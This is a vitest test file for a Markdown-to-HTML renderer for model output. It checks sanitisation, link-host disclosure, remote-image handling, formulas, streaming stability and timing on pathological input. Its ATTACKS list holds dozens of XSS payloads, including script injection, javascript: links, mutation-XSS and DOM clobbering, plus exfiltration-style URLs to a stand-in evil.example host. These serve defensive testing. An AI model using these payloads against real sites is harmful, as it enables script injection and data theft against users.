import { describe, expect, it } from "vitest";
import { blocks, html, safeAddress, sanitised } from "../src/text/markdown";

/** What a browser makes of it. */
function page(text: string): HTMLElement {
  const place = document.createElement("div");
  place.innerHTML = html(text);
  return place;
}

const TAGS = new Set(
  ("p br hr h1 h2 h3 h4 h5 h6 blockquote pre code ul ol li input strong em del a img span table thead tbody tr th td").split(" "),
);
const ATTRIBUTES = new Set(
  "href title rel target src alt class start align type checked disabled data-language".split(" "),
);

/** Fails for anything that runs, loads or submits. */
function harmless(place: HTMLElement): void {
  for (const element of place.querySelectorAll("*")) {
    expect(TAGS).toContain(element.localName);
    for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
    const href = element.getAttribute("href");
    if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
    const src = element.getAttribute("src");
    if (src !== null) expect(src).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
    if (element.localName === "input") expect(element.getAttribute("type")).toBe("checkbox");
    if (element.localName === "a") expect(element.getAttribute("rel")).toContain("noopener noreferrer");
  }
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<body onload=alert(1)>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/path)",
  "[x](https://ok.example\" onmouseover=\"alert(1))",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?q=secret)",
  "![x\" onerror=\"alert(1)](data:image/png;base64,AAAA)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x][ref]\n\n[ref]: https://evil.example/pixel.png \"onerror=alert(1)\"",
  "<javascript:alert(1)>",
  "<https://ok.example/\"onclick=alert(1)>",
  "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
  "```html onclick=alert(1)\n<b>\n```",
  "`<img src=x onerror=alert(1)>`",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "- [ ] <form action=https://evil.example><input type=submit></form>",
  "$<img src=x onerror=alert(1)>$ and $$\\href{javascript:alert(1)}{x}$$",
  "\\[<script>alert(1)</script>\\]",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>",
  "<a id=config><a id=config name=url href=https://evil.example>",
  "**<b onmouseover=alert(1)>bold</b>**",
];

describe("a model's Markdown", () => {
  it.each(ATTACKS)("runs, loads and sends nothing: %s", (attack) => {
    harmless(page(attack));
    harmless(page(`> ${attack}\n\n1. ${attack}`));
    const scripts = page(attack).querySelectorAll("script, style, iframe, svg, form, link, meta, base, object");
    expect(scripts).toHaveLength(0);
  });

  it("shows HTML as the characters it is made of", () => {
    expect(page("a <b>bold</b> word").textContent).toContain("a <b>bold</b> word");
    expect(page("<div>\n*x*\n</div>").textContent).toContain("<div>");
  });

  it("is stopped by the second lock alone as well", () => {
    for (const attack of ATTACKS) {
      const place = document.createElement("div");
      place.innerHTML = sanitised(attack);
      for (const element of place.querySelectorAll("*")) {
        expect(TAGS).toContain(element.localName);
        for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
      }
    }
  });

  it("says where a link goes, unless its words do", () => {
    expect(page("[my bank](https://evil.example/login)").textContent).toContain("my bank (evil.example)");
    expect(page("[https://bank.example](https://evil.example)").textContent).toContain("(evil.example)");
    expect(page("[x](https://bank.example@evil.example/)").textContent).toContain("(evil.example)");
    expect(page("[x](https://bаnk.example/)").textContent).toContain("(xn--");
    expect(page("https://ok.example/path").querySelector(".target")).toBeNull();
    expect(page("<me@ok.example>").querySelector(".target")).toBeNull();
    const link = page("[x](https://ok.example/a?b=1&c=2)").querySelector("a")!;
    expect(link.getAttribute("href")).toBe("https://ok.example/a?b=1&c=2");
    expect(link.target).toBe("_blank");
  });

  it("shows a picture from elsewhere as a link, and one in the text as itself", () => {
    const place = page("![a cat](https://evil.example/cat.png)");
    expect(place.querySelector("img")).toBeNull();
    expect(place.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/cat.png");
    expect(place.textContent).toContain("a cat");
    expect(page("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")?.alt).toBe("dot");
  });

  it("knows what can be an address", () => {
    expect(safeAddress("https://ok.example")?.host).toBe("ok.example");
    for (const raw of ["", "x", "ftp://a", "https://", "javascript:1", " https://a.example", `https://${"a".repeat(3000)}`]) {
      expect(safeAddress(raw)).toBeNull();
    }
  });

  it("keeps code, tables, lists and emphasis", () => {
    const place = page("# T\n\n1. **a**\n2. *b* ~~c~~\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n```Python\nif a < b: pass\n```\n\n- [x] done");
    expect(place.querySelector("h1")?.textContent).toBe("T");
    expect(place.querySelectorAll("ol > li")).toHaveLength(2);
    expect(place.querySelector("td[align=right]")?.textContent).toBe("2");
    expect(place.querySelector("pre > code")?.textContent).toBe("if a < b: pass\n");
    expect(place.querySelector("code")?.getAttribute("data-language")).toBe("python");
    expect(place.querySelector("input")?.disabled).toBe(true);
  });

  it("finds formulas and leaves money alone", () => {
    const formulas = (text: string): (string | null)[] => [...page(text).querySelectorAll(".math")].map((one) => one.textContent);
    expect(formulas("so $x_1 < 2$ and \\(y\\)")).toEqual(["x_1 < 2", "y"]);
    expect(formulas("$$\na^2\n$$\n\n\\[\nb\n\\]")).toEqual(["a^2", "b"]);
    expect(page("$$a$$").querySelector(".math-display")).not.toBeNull();
    expect(formulas("it costs $5 and $6, or $ 7 $")).toEqual([]);
    expect(formulas("`$x$`")).toEqual([]);
    expect(formulas("```\n$x$\n```")).toEqual([]);
  });

  it("grows block by block, and each earlier block stays the very same", () => {
    const whole = "One *a*.\n\n```py\nx = 1\n```\n\nTwo.";
    let known = new Map<string, { source: string; html: string }>();
    let last: readonly { source: string; html: string }[] = [];
    for (let end = 1; end <= whole.length; end++) {
      last = blocks(whole.slice(0, end), known);
      known = new Map(last.map((block) => [block.source, block]));
    }
    expect(last.map((block) => block.html).join("")).toBe(html(whole));
    expect(blocks(`${whole} More.`, known)[0]).toBe(last[0]);
  });

  it("is done in time, whatever it is", () => {
    const hostile = [
      ...["$".repeat(5000), "[".repeat(2000), "\\[".repeat(5000), "\\(".repeat(5000), "`".repeat(5000), "$a".repeat(5000)],
      ...["$$a ".repeat(3000), "> ".repeat(200), "*a ".repeat(3000), "![".repeat(2000), "<a ".repeat(5000), "|".repeat(5000)],
    ];
    for (const text of hostile) {
      const before = performance.now();
      html(text);
      expect(performance.now() - before, text.slice(0, 5)).toBeLessThan(5000);
    }
  }, 60_000);
});
